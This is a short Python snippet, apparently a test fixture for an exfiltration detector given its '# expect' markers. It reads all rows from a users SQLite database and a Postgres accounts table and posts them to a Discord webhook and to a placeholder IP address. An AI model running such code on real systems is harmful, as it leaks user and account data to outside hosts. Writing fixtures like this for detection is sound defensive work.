import sqlite3
import psycopg2
import requests

rows = sqlite3.connect("/var/lib/app/users.db").cursor().execute("SELECT * FROM users").fetchall()
requests.post("https://discord.com/api/webhooks/0/x", json={"content": str(rows)})  # expect

cursor = psycopg2.connect("dbname=app").cursor()
cursor.execute("SELECT * FROM accounts")
requests.post("http://192.0.2.9:8080/d", json=cursor.fetchall())  # expect
